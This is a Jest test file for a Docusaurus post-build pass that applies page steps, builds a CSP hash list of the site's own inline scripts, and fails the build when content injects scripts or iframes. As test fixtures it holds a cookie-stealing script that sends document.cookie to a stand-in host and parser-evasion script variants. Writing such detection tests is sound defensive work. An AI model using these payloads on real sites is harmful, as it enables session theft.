/**
 * @jest-environment node
 *
 * The post-build pipeline's pass over the pages (postbuild/README.md): each page gets its page steps'
 * changes (two steps written here, as speed-ups write theirs: each speed-up tests its own in its folder) and
 * the gate's mark; the CSP's hash list holds exactly the site's own inline scripts, the steps' included; a page whose content brings a script (from an MDX page, an OpenAPI description or
 * `<Head>`) fails the build, naming the page and its source; the compressed copies are those of the
 * finished pages.
 */
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import { INLINE_SCRIPT_HASHES_FILE, type RouteManifests, type SiteScripts } from '../../rules/buildFiles';
import { readInlineScriptHashes } from '../../server/gate/csp';
import { scriptHashSource } from '../pageSafety';
import { finishPages, type NamedPageStep, type PagesInput } from '../pages';

const tsx = require.resolve('tsx/cli');

describe('the pass over the built pages', () => {
  const THEME = 'document.documentElement.setAttribute("data-theme","light")';
  const RAF = 'requestAnimationFrame(function(){$RT=performance.now()})';
  const PRELUDE = '$RB=[],$RV=function(e){},($RC=function(e,n){})';
  const REVEAL = `${PRELUDE}("B:0","S:0")`;
  const SITE: SiteScripts = {
    tags: [THEME],
    react: { constants: [RAF], prelude: PRELUDE, complete: '$RC' },
    staticDirectories: ['static'],
    pluginPages: [],
  };
  const FROM_MDX = '$RX=0;location="//x.example/?"+document.cookie';
  const FROM_OPENAPI = 'window.fromDescription=1';
  const FROM_HEAD = 'window.fromHead=1';

  /** An MDX page and an OpenAPI description (as the plugin inlines it in the generated .api.mdx), rendered. */
  function renderedContent(): string[] {
    const sources = [
      `# A doc\n\nSome text.\n\n<script>{${JSON.stringify(FROM_MDX)}}</script>\n`,
      `## Search documents\n\nReturns documents.\n\n<script>{${JSON.stringify(FROM_OPENAPI)}}</script>\n`,
    ];
    const out = execFileSync(process.execPath, [tsx, path.join(__dirname, 'renderContent.mts')], {
      input: JSON.stringify(sources),
      encoding: 'utf8',
    });
    return JSON.parse(out) as string[];
  }

  /** A page laid out as Docusaurus builds it: head, the theme's body script, the React root with a reveal. */
  const page = (content: string, head = '') =>
    `<!doctype html><html><head>${head}<script type="application/ld+json">{"@type":"BreadcrumbList"}</script></head>` +
    `<body><script>${THEME}</script><div id="__docusaurus"><main>${content}<template id="B:0"></template></main>` +
    `<script>${RAF}</script><div hidden id="S:0"></div><script>${REVEAL}</script></div></body></html>`;

  /** An API layout route with its own stylesheet, and one operation page under it. */
  const manifests: RouteManifests = {
    tree: [{ key: '/api-a93', path: '/api', routes: [{ key: '/api/search-106', path: '/api/search', exact: true }] }],
    routes: { '/api-a93': { component: 'apiLayout' }, '/api/search-106': { content: 'search' } },
    client: {
      entrypoints: ['main'],
      origins: { apiLayout: ['10'], search: ['11'] },
      assets: {
        '10': { css: [{ file: 'assets/css/10.css' }], js: [{ file: 'assets/js/10.js' }] },
        '11': { js: [{ file: 'assets/js/11.js' }] },
      },
    },
  };

  /** What the second step writes into a page that loads the entry script: an inline script of the site's own. */
  const OWN = 'window.stepped=1';
  /** Before </head>, or an error naming the page's lack of one. */
  const intoHead = (html: string, tag: string) => {
    if (!html.includes('</head>')) throw new Error('built page has no </head>');
    return html.replace('</head>', `${tag}</head>`);
  };
  /** Two page steps: one links the API layout's stylesheet (from the manifests), one writes its own script. */
  const STEPS: NamedPageStep[] = [
    {
      folder: 'first',
      step: {
        order: 10,
        apply: (html, { relative, manifests: { client }, assets }) => {
          const href = `/${client.assets['10'].css[0].file}`;
          return relative.startsWith('api/') && !assets.includes(href)
            ? { html: intoHead(html, `<link rel="stylesheet" href="${href}">`) }
            : { html };
        },
      },
    },
    {
      folder: 'second',
      step: {
        order: 20,
        apply: (html, { assets }) =>
          assets.includes('/assets/js/main.js')
            ? { html: intoHead(html, `<script>${OWN}</script>`), ownScript: OWN }
            : { html },
      },
    },
  ];

  /** The pass's input for `manifests`, with the sources of two pages. */
  const input = (extra: Partial<PagesInput> = {}): PagesInput => ({
    manifests,
    pageSteps: STEPS,
    publicPages: [],
    siteScripts: SITE,
    staticFileOf: () => undefined,
    sourceOf: (route) =>
      ({ '/docs/x': 'docs/x.mdx', '/api/search': 'the OpenAPI description, operation GET /search' })[route],
    ...extra,
  });

  /** A build folder holding `pages` (relative path → HTML) and one script asset. */
  function buildDir(pages: Record<string, string>): string {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'postbuild-'));
    for (const [file, html] of Object.entries({ ...pages, 'assets/js/main.js': 'console.log("main");'.repeat(50) })) {
      fs.mkdirSync(path.dirname(path.join(dir, file)), { recursive: true });
      fs.writeFileSync(path.join(dir, file), html);
    }
    return dir;
  }

  it('finishPages: one pass gives each page its steps and hashes exactly the site’s own scripts', async () => {
    const entry = '<script src="/assets/js/main.js" defer></script>';
    const dir = buildDir({
      'docs/x/index.html': page('<p>Doc</p>').replace('</head>', `${entry}</head>`),
      'api/search/index.html': page('<p>Search</p>'),
      'login/index.html': page(''),
    });
    const report = await finishPages(dir, input({ publicPages: ['login/index.html'] }));
    const read = (file: string) => fs.readFileSync(path.join(dir, file), 'utf8');

    expect(report).toMatchObject({ pages: 3, marked: 2 });
    expect(report.changedBy).toEqual({ first: 1, second: 1 });
    expect(read('api/search/index.html')).toContain('<link rel="stylesheet" href="/assets/css/10.css">');
    expect(read('docs/x/index.html')).toContain('<meta name="portal-gate" content="verified">');
    expect(read('login/index.html')).not.toContain('portal-gate');

    expect(read('docs/x/index.html')).toContain(`<script>${OWN}</script>`);
    expect(readInlineScriptHashes(dir)).toEqual([THEME, RAF, REVEAL, OWN].map(scriptHashSource).sort());
    // The compressed copies are the finished pages', and the hash list is compressed too.
    expect(zlib.brotliDecompressSync(fs.readFileSync(path.join(dir, 'docs/x/index.html.br'))).toString()).toBe(
      read('docs/x/index.html'),
    );
    expect(fs.existsSync(path.join(dir, `${INLINE_SCRIPT_HASHES_FILE}.gz`))).toBe(true);
    expect(fs.existsSync(path.join(dir, 'assets/js/main.js.br'))).toBe(true);
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it('fails, naming each page and its source, when content brings a script; no hash list is written', async () => {
    const [mdx, description] = renderedContent();
    expect(mdx).toContain('<script>');
    const dir = buildDir({
      'docs/x/index.html': page(mdx),
      'api/search/index.html': page(description),
      'login/index.html': page('', `<script data-rh="true">${FROM_HEAD}</script>`),
      'embed.html': page('<iframe src="https://x.example"></iframe>'),
    });
    const error = await finishPages(
      dir,
      input({ staticFileOf: (p) => (p === 'embed.html' ? 'static/embed.html' : undefined) }),
    ).then(
      () => new Error('the build passed'),
      (thrown: Error) => thrown,
    );
    expect(error.message.split('\n')).toEqual([
      '4 thing(s) in the built pages that content may not bring (postbuild/pageSafety.ts):',
      expect.stringMatching(
        /^ {2}build\/api\/search\/index\.html \(from the OpenAPI description, operation GET \/search\): an inline <script> the site's own code does not write \("window\.fromDescription=1"\)$/,
      ),
      expect.stringMatching(
        /^ {2}build\/docs\/x\/index\.html \(from docs\/x\.mdx\): an inline <script> the site's own code does not write \("\$RX=0;location/,
      ),
      '  build/embed.html (from static/embed.html): the element <iframe>',
      expect.stringMatching(
        /^ {2}build\/login\/index\.html: an inline <script> the site's own code does not write \("window\.fromHead=1"\)$/,
      ),
      'Remove each from its source: code belongs in a component (src/components), an embed in a link.',
    ]);
    expect(fs.existsSync(path.join(dir, INLINE_SCRIPT_HASHES_FILE))).toBe(false);
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it('takes only the script a step wrote for its own, not a content script the parser reads differently', async () => {
    // The browser's parser turns CR LF into LF and decodes entities in <svg> scripts: neither text is in the
    // page's source as the parser gives it, and neither is the site's own.
    const entry = '<script src="/assets/js/main.js" defer></script>';
    const dir = buildDir({
      'docs/x/index.html': page(
        '<script>a=1;\r\nsteal()</script><svg><script>1&amp;&amp;steal()</script></svg>',
      ).replace('</head>', `${entry}</head>`),
    });
    const error = await finishPages(dir, input()).then(
      () => new Error('the build passed'),
      (thrown: Error) => thrown,
    );
    expect(error.message.match(/an inline <script> the site's own code does not write/g)).toHaveLength(2);
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it('fails, naming the page check, when no page has a React root by the id it knows', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'postbuild-'));
    fs.mkdirSync(path.join(dir, 'docs'), { recursive: true });
    fs.writeFileSync(path.join(dir, 'docs/index.html'), page('').replace('id="__docusaurus"', 'id="__root"'));
    await expect(finishPages(dir, input())).rejects.toThrow(
      /the page check \(postbuild\/pageSafety\.ts\) finds no React root id="__docusaurus" in any page/,
    );
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it('names the page a step cannot apply to', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'postbuild-'));
    fs.mkdirSync(path.join(dir, 'api/search'), { recursive: true });
    fs.writeFileSync(path.join(dir, 'api/search/index.html'), '<p>no head</p>');
    await expect(finishPages(dir, input())).rejects.toThrow('build/api/search/index.html: built page has no </head>');
    fs.rmSync(dir, { recursive: true, force: true });
  });
});
